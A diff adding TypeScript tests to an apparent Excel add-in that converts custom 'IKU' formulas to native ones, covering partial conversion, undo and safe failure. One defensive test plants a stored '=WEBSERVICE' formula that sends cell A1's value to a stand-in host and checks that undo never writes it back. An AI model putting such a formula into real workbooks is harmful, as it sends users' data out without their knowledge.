@@ -99,3 +99,89 @@ test('what Excel refuses is told', async () => {
     problem: { happened: { id: expect.stringContaining('disunting') as string } },
   });
 });
+
+describe('a conversion that Excel cuts short', () => {
+  const CUT = [
+    { name: 'A', cells: { A1: { formula: '=IKU.CAPAIAN(B1,C1,1)', value: 1.05 } } },
+    { name: 'B', cells: { A1: { formula: '=IKU.CAPAIAN(B1,C1,1)', value: 1.05 } } },
+  ];
+  const same = (formula: string) => (formula.startsWith('=') ? 1.05 : undefined);
+  const formula = (office: ReturnType<typeof connectOffice>, sheet: string) => office.cell(sheet, 'A1')?.formula;
+
+  test('tells what was changed, offers to undo it, and has kept the way back', async () => {
+    const office = connectOffice({ sheets: CUT }, { calculate: same });
+    const conversion = createConversion(excelFormulaHost);
+    await conversion.preview('native', 'workbook');
+    office.refuse(
+      (member) => member === 'Range.formulas' && !formula(office, 'A')?.includes('IKU.'),
+      'GeneralException',
+    );
+    await conversion.apply();
+    expect(formula(office, 'A')).not.toContain('IKU.');
+    expect(formula(office, 'B')).toContain('IKU.');
+    expect(conversion.state.get()).toMatchObject({
+      step: 'done',
+      report: {
+        changed: [{ sheet: 'A' }],
+        problem: {
+          happened: { id: expect.stringContaining('1 rumus sudah diganti dan dapat diurungkan; 1 belum') as string },
+        },
+      },
+    });
+
+    const later = createConversion(excelFormulaHost);
+    await later.preview('iku', 'workbook');
+    await later.apply();
+    expect(formula(office, 'A')).toBe('=IKU.CAPAIAN(B1,C1,1)');
+  });
+
+  test('is undone as far as it went; what could not be put back can be tried again', async () => {
+    const office = connectOffice({ sheets: CUT }, { calculate: same });
+    const conversion = createConversion(excelFormulaHost);
+    await conversion.preview('native', 'workbook');
+    await conversion.apply();
+    office.refuse(
+      (member) => member === 'Range.formulas' && formula(office, 'A') === '=IKU.CAPAIAN(B1,C1,1)',
+      'AccessDenied',
+    );
+    await conversion.undo();
+    expect(conversion.state.get()).toMatchObject({
+      step: 'done',
+      report: {
+        changed: [{ sheet: 'B' }],
+        problem: { happened: { id: expect.stringContaining('masih dapat') as string } },
+      },
+    });
+    await conversion.undo();
+    expect(conversion.state.get()).toMatchObject({ step: 'undone' });
+    expect(CUT.map(({ name }) => formula(office, name))).toEqual(['=IKU.CAPAIAN(B1,C1,1)', '=IKU.CAPAIAN(B1,C1,1)']);
+  });
+
+  test('changes nothing where it could not even keep what the formulas were', async () => {
+    const office = connectOffice({ sheets: CUT }, { calculate: same });
+    const refusing = () => Promise.reject(Object.assign(new Error('no'), { code: 'AccessDenied' }));
+    const conversion = createConversion({ ...excelFormulaHost, saveOriginals: refusing });
+    await conversion.preview('native', 'workbook');
+    await conversion.apply();
+    expect(conversion.state.get()).toMatchObject({
+      step: 'failed',
+      problem: { happened: { id: expect.stringContaining('Tidak ada yang diubah') as string } },
+    });
+    expect(formula(office, 'A')).toBe('=IKU.CAPAIAN(B1,C1,1)');
+  });
+});
+
+test('the way back writes no formula that somebody has merely stored in the workbook', async () => {
+  const stolen = '=WEBSERVICE("http://contoh.test/?"&A1)';
+  const office = connectOffice({ sheets: [{ name: 'A', cells: { B1: { formula: '=A1*2', value: 4 } } }] });
+  const id = office.workbook.findSheet('A')?.id ?? '';
+  office.workbook.settings.set(
+    'AsistenIKU.rumus',
+    JSON.stringify({ [id]: { formulas: { B1: ['=A1*2', stolen] }, unformatted: [] } }),
+  );
+  const conversion = createConversion(excelFormulaHost);
+  await conversion.preview('iku', 'workbook');
+  expect(conversion.state.get()).toMatchObject({ step: 'preview', plan: { changes: [] } });
+  await conversion.apply();
+  expect(office.cell('A', 'B1')?.formula).toBe('=A1*2');
+});
